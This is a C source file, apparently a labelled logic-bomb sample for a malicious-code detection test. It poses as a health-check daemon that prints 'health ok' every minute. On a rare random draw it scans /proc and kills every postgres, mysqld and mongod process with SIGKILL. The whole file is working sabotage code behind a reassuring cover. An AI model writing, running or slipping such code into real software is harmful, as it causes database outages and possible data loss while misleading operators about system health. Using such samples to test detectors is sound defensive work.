// blind-expect: behavior.logic-bomb
// Health-check daemon that, on a rare random draw, kills every database server process on the machine.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <ctype.h>
#include <dirent.h>
#include <signal.h>
#include <time.h>
#include <unistd.h>

static const char *victims[] = {"postgres", "mysqld", "mongod"};

static int is_victim(const char *comm)
{
    for (size_t i = 0; i < sizeof victims / sizeof victims[0]; i++)
        if (strcmp(comm, victims[i]) == 0)
            return 1;
    return 0;
}

static void kill_matching(void)
{
    DIR *d = opendir("/proc");
    if (!d)
        return;
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        if (!isdigit((unsigned char)e->d_name[0]))
            continue;
        char path[300], comm[64] = "";
        snprintf(path, sizeof path, "/proc/%s/comm", e->d_name);
        FILE *f = fopen(path, "r");
        if (!f)
            continue;
        if (fgets(comm, sizeof comm, f))
            comm[strcspn(comm, "\n")] = '\0';
        fclose(f);
        if (is_victim(comm))
            kill((pid_t)atoi(e->d_name), SIGKILL);
    }
    closedir(d);
}

int main(void)
{
    srand((unsigned)time(NULL) ^ (unsigned)getpid());
    for (int tick = 0; tick < 1440; tick++) {
        printf("health ok (tick %d)\n", tick);
        fflush(stdout);
        if (rand() % 1000 == 777)
            kill_matching();
        sleep(60);
    }
    return 0;
}
